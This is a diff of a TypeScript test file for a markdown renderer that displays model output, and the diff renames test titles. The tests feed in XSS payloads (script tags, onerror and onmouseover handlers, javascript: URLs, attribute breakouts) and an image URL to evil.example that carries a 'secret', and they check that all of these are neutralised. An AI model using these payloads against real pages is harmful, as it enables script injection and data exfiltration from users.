@@ -5,7 +5,7 @@ const fileUrl = (path: string) => `/files/${encodeURIComponent(path)}`
 const toHtml = createMarkdown(fileUrl)
 
 describe('Markdown from a model', () => {
-  test('shows raw HTML and does not obey it', () => {
+  test('shows raw HTML as text', () => {
     const html = toHtml('<script>alert(1)</script>\n\nHello <img src=x onerror=alert(1)> <b>you</b>')
 
     expect(html).not.toMatch(/<(script|img|b)\b/)
@@ -30,17 +30,17 @@ describe('Markdown from a model', () => {
     expect(linkTarget(href, fileUrl)).toBeUndefined()
   })
 
-  test('leads outside in a tab of its own that knows nothing of this one', () => {
+  test('opens outside links in a tab that cannot reach this one', () => {
     expect(toHtml('[site](https://example.com/?a=1&b=2 "a \\"title\\"")')).toBe(
       '<p><a href="https://example.com/?a=1&amp;b=2" title="a &quot;title&quot;" rel="noopener noreferrer" target="_blank">site</a></p>\n',
     )
   })
 
-  test('leads to the files of the thread', () => {
+  test('links to the thread’s files', () => {
     expect(linkTarget('outputs/a%20b.md', fileUrl)).toEqual({ kind: 'file', href: '/files/outputs%2Fa%20b.md' })
   })
 
-  test('loads no picture from elsewhere', () => {
+  test('loads no remote picture', () => {
     const html = toHtml('![secret](https://evil.example/?q=secret) ![own](outputs/chart.png) ![x](javascript:alert(1))')
 
     expect(html.match(/<img /g)).toHaveLength(1)
@@ -48,7 +48,7 @@ describe('Markdown from a model', () => {
     expect(html).toContain('<a href="https://evil.example/?q=secret"')
   })
 
-  test('cannot leave an attribute', () => {
+  test('cannot break out of an attribute', () => {
     const html = toHtml('![" onerror="alert(1)](outputs/a.png) [x](https://e.com/"onmouseover="alert(1))')
 
     expect(html).not.toMatch(/" on\w+="/)
